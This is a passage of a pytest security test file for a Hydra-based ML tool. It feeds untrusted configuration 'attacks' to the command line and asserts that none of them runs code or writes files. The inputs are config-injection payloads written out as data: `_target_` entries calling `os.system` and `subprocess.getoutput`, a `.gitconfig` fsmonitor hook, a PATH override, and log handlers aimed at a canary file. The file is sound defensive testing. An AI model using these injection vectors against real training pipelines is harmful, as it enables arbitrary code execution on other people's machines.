        yield f"{place}: a run", Attack([f"hydra.searchpath=[{place}]"])
    for name, entries in PRIMARIES.items():
        yield f"primary: {name}", by_primary({"searchpath": entries})
    yield from OTHERS.items()
    for name, handler in FILES.items():
        section = {"job_logging": logs(handlers={"x": handler}, root={"handlers": ["x"]})}
        yield f"handler: {name}", by_experiment(section)
    for name in SUBFOLDERS:
        section = {"run": {"dir": "FOLDER/victim"}, "output_subdir": name}
        yield f"subfolder: {name!r}", by_experiment(section)
    for name, text in GROWING.items():
        files = {"experiment/evil.yaml": "# @package _global_\n" + text}
        yield f"grows: {name}", Attack(["--config-dir=FOLDER", "experiment=evil"], files)
    yield "grows: a sweep's range", by_sweep({"sweeper": {"params": {"batch.size": RANGE}}})
    shuffled = {"sweeper": {"params": {"batch.size": f"shuffle({RANGE})"}}}
    yield "grows: a shuffled range", by_sweep(shuffled)
    stored = {
        "version": 1,
        "words": [f"seed={RANGE}"],
        "fixed": None,
        "keys": [],
        "threads": 1,
        "began": 0,
        "ends": [],
        "jobs": [],
    }
    yield (
        "grows: a stored range",
        Attack(["-m", "resume=FOLDER/sweep"], {"sweep/sweep.json": json.dumps(stored)}),
    )
    for group in ("job_logging", "hydra_logging"):
        name = {"job_logging": "default", "hydra_logging": "hydra_debug"}[group]
        yield f"hydra's own {group}", Attack([f"hydra/{group}={name}"])
    yield "recorded overrides", by_experiment({"overrides": {"task": ["--trust=stranger"]}})
    for name, attack in SCRIPTS.items():
        yield f"script: {name}", attack
    for name, attack in RAYS.items():
        yield f"another Ray: {name}", attack
    for place, (name, runtime_env) in enumerate(ACTORS.items()):
        doors = list(by_doors(runtime_env))
        for door, attack in doors if place == 0 else [doors[place % len(doors)]]:
            yield f"actors: {name}, {door}", attack
        if name not in ("harmless", "folder"):
            words = [*RAY, f"+loader.ray.runtime_env={flow(runtime_env)}"]
            yield f"actors: {name}, typed", Attack(words)
    for name in ("working_dir", "py_executable"):
        words = [*RAY, f"+loader.ray.runtime_env.{name}=${{run_dir}}"]
        later = {"experiment/evil.yaml": "# @package _global_\nrun_dir: FOLDER\n"}
        words += ["--config-dir", "FOLDER", "experiment=evil"]
        yield f"actors: {name} by interpolation", Attack(words, later)


ATTACKS = dict(attacks())


@pytest.fixture
def stranger(tmp_path, monkeypatch):
    """Runs an attack in an empty folder; gives the exit code."""
    folder, here = tmp_path / "stranger", tmp_path / "here"
    (folder / "victim").mkdir(parents=True)
    here.mkdir()
    canary, victim = tmp_path / "canary", folder / "victim" / "config.yaml"
    victim.write_text("precious")
    (folder / "stranger.py").write_text(f"open({str(canary)!r}, 'w')\nmade = dict\n")
    program = folder / "git"
    program.write_text(f"#!/bin/sh\ntouch {canary}\n")
    program.chmod(0o755)
    (folder / ".gitconfig").write_text(f"[core]\n\tfsmonitor = {program}\n")
    monkeypatch.chdir(here)
    monkeypatch.syspath_prepend(str(folder))
    monkeypatch.setattr(seams, "runner", lambda name: lambda config: git_state() and None)
    for name in ("PENSTOCK_TRUST", "HYDRA_FULL_ERROR", "PENSTOCK_TRACEBACK"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("EVIL", "stranger.made")

    def filled(text):
        return (
            text.replace("CANARY", str(canary))
            .replace("VICTIM", str(victim))
            .replace("FOLDER", str(folder))
        )

    def run(attack):
        for name, text in attack.files.items():
            path = folder / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(filled(text))
        for name, value in attack.environment.items():
            monkeypatch.setenv(name, filled(value))
        return command.main([filled(word) for word in attack.words])

    run.canary, run.victim, run.here, run.folder = canary, victim, here, folder
    yield run
    sys.modules.pop("stranger", None)
    logging.getLogger().handlers = [
        one for one in logging.getLogger().handlers if not isinstance(one, logging.FileHandler)
    ]


@pytest.mark.one_in(19)
@pytest.mark.parametrize("name", ATTACKS)
def test_nothing_of_a_strangers_runs(name, stranger, capsys):
    fails_without_a_trace(ATTACKS[name], stranger, capsys)


@pytest.mark.one_in(7)
@pytest.mark.parametrize("name", OUTPUTS)
def test_nothing_is_written_that_the_command_line_does_not_name(
    name, stranger, capsys, monkeypatch
):
    monkeypatch.setenv("EVIL_DIR", str(stranger.canary))
    monkeypatch.setenv("HOME", str(stranger.canary.parent))
    attack, key = OUTPUTS[name]
    attack.files.setdefault("run/manifest.json", "{}")
    err = fails_without_a_trace(attack, stranger, capsys)
    assert f"error in the configuration: {key}" in err


def fails_without_a_trace(attack, stranger, capsys):
    """Run an attack; what it said on stderr."""
    code = stranger(attack)
    out, err = capsys.readouterr()
    assert not stranger.canary.exists(), "the stranger's code ran"
    assert not stranger.canary.is_symlink(), "the stranger's code ran"
    assert stranger.victim.read_text() == "precious"
    assert sorted(path.name for path in stranger.victim.parent.iterdir()) == ["config.yaml"]
    assert list(stranger.here.iterdir()) == []
    assert code == 2, out + err
    assert "Traceback" not in err
    assert sum(bool(MESSAGE.match(line)) for line in err.splitlines()) == 1, err
    assert len(err) < 10_000
    return err


def test_one_experiment_with_everything(stranger, capsys):
    """All that is wrong with it comes at once, in one message."""
    chains = {
        f"c{n}": one
        for n, part in enumerate(CHAINS.values())
        for one in part.get("callbacks", {}).values()
    }
    hydra = {
        "callbacks": chains,
        "launcher": {"_target_": "subprocess.getoutput"},
        "sweeper": {"_target_": "stranger.made"},
        "job": {"env_set": {"PATH": "FOLDER"}},
        "job_logging": logs(handlers={"x": {"class": "logging.FileHandler", "filename": "CANARY"}}),
        "run": {"dir": "FOLDER/victim"},
        "output_subdir": ".",
        "overrides": {"task": ["--trust=x"]},
    }
    parts = {
        "dataset": {"_target_": "stranger.made"},
        "model": {"_target_": "torch.load", "f": "x"},
        "transform": {"train": {"x": {"_target_": "os.system", "command": "touch CANARY"}}},
        "limits": {"pixels": 0},
        "hydra": hydra,
    }
    files = {"experiment/evil.yaml": "# @package _global_\n" + yaml.safe_dump(parts)}
    code = stranger(Attack(["--config-dir", "FOLDER", "experiment=evil"], files))
    err = capsys.readouterr().err
    assert code == 2, err
    assert not stranger.canary.exists()
    assert stranger.victim.read_text() == "precious"
    assert list(stranger.here.iterdir()) == []
    assert len(MESSAGE.findall(err)) == 1
    for key in (
        *(f"hydra.callbacks.{name}" for name in chains),
        "hydra.launcher",
        "hydra.sweeper",
        "hydra.job.env_set.PATH",
        "hydra.job_logging.handlers.x",
        "hydra.output_subdir",
        "hydra.overrides",
    ):
        assert f"  {key}" in err, key


# 4. What a sweep's jobs have of hydra's own, beyond the jobs that are looked at beforehand.
PARTS = {
    "a/good": "{}",
    "a/evil": yaml.safe_dump({"hydra": CHAINS["path of ours"]}),
    "a/log": yaml.safe_dump(
        {
            "hydra": {
                "job_logging": logs(
                    handlers={"x": {"class": "logging.FileHandler", "filename": "CANARY"}}
                )
            }
        }
    ),
    # Only together do these two make something.
    "a/half": yaml.safe_dump(
        {"hydra": {"job_logging": logs(handlers={"x": {"filename": "CANARY"}})}}
    ),
    "b/good": "{}",
    "b/half": yaml.safe_dump(
        {
            "hydra": {
                "job_logging": {
                    "handlers": {"x": {"class": "logging.FileHandler"}},
                    "root": {"handlers": ["x"]},
                }
            }
        }
    ),
}


@pytest.mark.one_in(8)
@pytest.mark.parametrize(
    "words",
    [
        ["+a=good,evil", "seed=1,2,3"],
        ["+a=good,log", "seed=1,2,3"],
        ["seed=1,2,3", "+a=good,good,good,log"],
        ["+a=good,half", "+b=good,half", "seed=1,2"],
    ],
    ids=" ".join,
)
def test_no_job_of_a_sweep_goes_unseen(words, stranger, capsys, monkeypatch):
    monkeypatch.setattr(sweep_check, "MOST_JOBS", 2)
    files = {f"{name}.yaml": "# @package _global_\n" + text for name, text in PARTS.items()}
    words = ["-m", *words, "--config-dir=FOLDER", "hydra.sweep.dir=sweep"]
    assert stranger(Attack(words, files)) == 2
    err = capsys.readouterr().err
    assert MESSAGE.match(err)
    assert "hydra." in err
    assert not stranger.canary.exists()
    assert not list(stranger.here.rglob("result.json")), "a job ran"


GOOD = {
    "launcher of a plugin": ["-m", "seed=1", "hydra/launcher=joblib", "hydra.launcher.n_jobs=1"],
    "text for a plugin, typed": [
        "-m",
        "seed=1",
        "hydra/launcher=joblib",
        "hydra.launcher.n_jobs=1",
        "hydra.launcher.prefer=processes",
    ],
    "callback of a person's own": [
        "--trust=tests",
        "+hydra.callbacks.x._target_=tests.own_parts.Seen",
        "+hydra.callbacks.x.folder=${hydra.sweep.dir}",
    ],
    "handler of rich's": [
        "+hydra.job_logging.handlers={x:{class:rich.logging.RichHandler}}",
        "hydra.job_logging.root={handlers:[x]}",
    ],
    "logging of hydra's": ["hydra/job_logging=stdout", "hydra/hydra_logging=default"],
    "threads": ["+hydra.job.env_set.OMP_NUM_THREADS=2"],
    "folder of groups": ["hydra.searchpath=[FOLDER]"],
    "file of groups": ["hydra.searchpath=[file://FOLDER]"],
    "package of groups": ["--trust=tests", "hydra.searchpath=[pkg://tests]"],
    "record of hydra's": ["-m", "seed=1", "hydra.output_subdir=.hydra"],
    "folders by name": ["-m", "seed=1", "hydra.sweep.subdir=${hydra.job.override_dirname}"],
    "help with interpolations": ["--help", "hydra.help.app_name=${seed}"],
    "folders, typed": ["run_dir=FOLDER/a", "cache_dir=${oc.env:EVIL_DIR}/b", "pack.out='~/c'"],
    "folder of a run by its keys": ["run_dir=FOLDER/runs/${seed}-${batch.size}"],
    "folders that are allowed": ["--allow-write=FOLDER", "--config-dir=FOLDER", "experiment=own"],
    "folder of a sweep, typed": ["-m", "seed=1,2", "hydra.sweep.dir=FOLDER/sweep"],
    "database, typed": ["tracker=mlflow", "tracker.mlflow.uri=sqlite:///FOLDER/x.db"],
    "download, typed": [
        "dataset=torchvision",
        "dataset.root=FOLDER",
        "+dataset.download=true",
        "dataset._target_=torchvision.datasets.MNIST",
    ],
}


@pytest.mark.one_in(12)
@pytest.mark.parametrize("name", GOOD)
def test_what_people_do_keeps_working(name, stranger, capsys, monkeypatch):
    monkeypatch.setenv("EVIL_DIR", str(stranger.folder))
    own = {"experiment/own.yaml": "# @package _global_\nrun_dir: FOLDER/x\ncache_dir: FOLDER/y\n"}
    assert stranger(Attack(GOOD[name], own)) == 0, capsys.readouterr().err


def test_what_starts_jobs_is_left_in_a_manifest(stranger, capsys, monkeypatch):
    """A line of a batch script, a folder of hydra's: nothing of `hydra.` is taken from it."""
    seen = []
    monkeypatch.setattr(seams, "runner", lambda name: seen.append)
    words = [f"hydra.job.name='{LINE}'", "hydra.run.dir=CANARY", "hydra.sweep.dir=CANARY"]
    assert stranger(by_manifest([*words, "seed=3"], "run_dir=mine")) == 0, capsys.readouterr().err
    assert [(one.seed, one.run_dir) for one in seen] == [(3, "mine")]
    assert not stranger.canary.exists()


@pytest.mark.thorough
def test_values_that_an_experiment_sweeps_over(stranger, capsys):
    attack = by_experiment({"sweeper": {"params": {"seed": "1,2", "+model.sharpness": "3,4"}}})
    assert stranger(Attack(["-m", *attack.words], attack.files)) == 0, capsys.readouterr().err
    assert "4 jobs in multirun" in capsys.readouterr().out


def test_a_loader_checks_in_other_processes_too(tmp_path):
    """Launchers send hydra's config loader to where jobs run."""
    cloudpickle = pytest.importorskip("cloudpickle")
    from hydra._internal.utils import create_config_search_path
    from hydra.types import RunMode

    from penstock.config.composition import CONF
    from penstock.config.hydra_loader import CheckedConfigLoader

    loader = CheckedConfigLoader(create_config_search_path(str(CONF)))
    loader = pickle.loads(cloudpickle.dumps(loader))
    loader.load_configuration("config", ["seed=1"], RunMode.RUN)
    with pytest.raises(SystemExit) as caught:
        loader.load_configuration("config", ["hydra/job_logging=default"], RunMode.RUN)
    assert caught.value.code == 2
    assert "hydra.job_logging.handlers.file.class" in str(caught.value.__cause__)


@pytest.mark.thorough
@pytest.mark.one_in(2)
@pytest.mark.parametrize("name", ["path of ours, by experiment", "manifest: folder of groups"])
def test_as_a_program(name, stranger):
    attack = ATTACKS[name]
    for path, text in attack.files.items():
        (stranger.folder / path).parent.mkdir(parents=True, exist_ok=True)
        (stranger.folder / path).write_text(
            text.replace("FOLDER", str(stranger.folder)).replace("CANARY", str(stranger.canary))
        )
    words = [word.replace("FOLDER", str(stranger.folder)) for word in attack.words]
    done = subprocess.run(
        [sys.executable, str(ROOT / "run.py"), *words, "task=digest", "steps=1"],
        capture_output=True,
        text=True,
        check=False,
        timeout=120,
        env={**os.environ},
    )
    assert done.returncode == 2, done.stderr
    assert MESSAGE.match(done.stderr)
    assert "Traceback" not in done.stderr
    assert not stranger.canary.exists()
